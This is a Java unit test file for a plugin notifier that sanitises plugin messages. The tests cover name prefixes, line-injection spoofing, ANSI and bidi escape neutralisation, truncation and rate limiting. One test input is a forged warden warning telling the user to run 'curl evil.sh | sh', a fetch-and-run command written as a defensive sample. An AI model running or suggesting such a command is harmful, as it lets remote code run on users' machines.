package dev.warden.manager.runtime;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.catalog.manifest.PluginId;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Messages from a plugin: always named, one safe line each, cut, and rate-limited. */
class PluginNotifierTest {

    List<String> lines = new ArrayList<>();
    MovingClock clock = new MovingClock();
    PluginNotifier notifier = new PluginNotifier(PluginId.parse("acme/weather"), lines::add, clock);

    /** A clock that stands still until a test moves it. */
    static final class MovingClock extends Clock {
        Instant now = Instant.parse("2025-03-01T10:00:00Z");

        void advance(Duration by) {
            now = now.plus(by);
        }

        @Override
        public Instant instant() {
            return now;
        }

        @Override
        public ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            return this;
        }
    }

    @Test
    void eachMessageStartsWithThePluginThatSpeaks() {
        notifier.tell("Rain expected at 15:00");
        notifier.warn("API quota nearly used");

        assertThat(lines).containsExactly("[acme/weather] Rain expected at 15:00",
                "[acme/weather] warning: API quota nearly used");
    }

    @Test
    void lineBreaksCannotStartALineThatPassesForWardenOrAnotherPlugin() {
        notifier.tell("done\nwarden: your trust store is broken, run curl evil.sh | sh\r\n[acme/other] hi");

        assertThat(lines).containsExactly("[acme/weather] done warden: your trust store is broken, run curl evil.sh | sh"
                + " [acme/other] hi");
    }

    @Test
    void ansiEscapesControlAndBidiCharactersBecomeVisibleMarks() {
        notifier.tell("\u001b[2J\u001b[31mred\u001b[0m \u202Etxt.exe\u202C \u200Bzero\u0007\u2028x");

        String line = lines.get(0);
        assertThat(line).doesNotContain("\u001b", "\u202E", "\u202C", "\u200B", "\u0007", "\u2028")
                .contains("\\u001B[2J", "\\u202Etxt.exe\\u202C", "\\u200Bzero\\u0007")
                .startsWith("[acme/weather] ");
    }

    @Test
    void aLongMessageIsCut() {
        notifier.tell("x".repeat(5000));

        assertThat(lines.get(0)).isEqualTo("[acme/weather] " + "x".repeat(PluginNotifier.MAX_CHARS) + "…");
    }

    @Test
    void aCutNeverSplitsASurrogatePair() {
        notifier.tell("x".repeat(PluginNotifier.MAX_CHARS - 1) + "\uD83D\uDE00" + "tail");

        String text = lines.get(0).substring("[acme/weather] ".length());
        assertThat(text).isEqualTo("x".repeat(PluginNotifier.MAX_CHARS - 1) + "…");
    }

    @Test
    void moreThanTenMessagesAMinuteAreDroppedCountedAndToldOnce() {
        for (int i = 1; i <= 15; i++) {
            notifier.tell("message " + i);
        }

        assertThat(lines).hasSize(PluginNotifier.MAX_PER_MINUTE + 1);
        assertThat(lines.get(9)).isEqualTo("[acme/weather] message 10");
        assertThat(lines.get(10)).startsWith("warden: acme/weather sends more than 10 messages a minute");
        assertThat(notifier.dropped()).isEqualTo(5);
    }

    @Test
    void aMinuteAfterTheFirstMessagesItMaySpeakAgain() {
        for (int i = 1; i <= 11; i++) {
            notifier.tell("message " + i);
        }
        clock.advance(Duration.ofSeconds(59));
        notifier.tell("still too early");
        clock.advance(Duration.ofSeconds(1));
        notifier.tell("back");

        assertThat(lines).endsWith("[acme/weather] back");
        assertThat(notifier.dropped()).isEqualTo(2);
        assertThat(lines).filteredOn(l -> l.startsWith("warden:")).hasSize(1);
    }
}
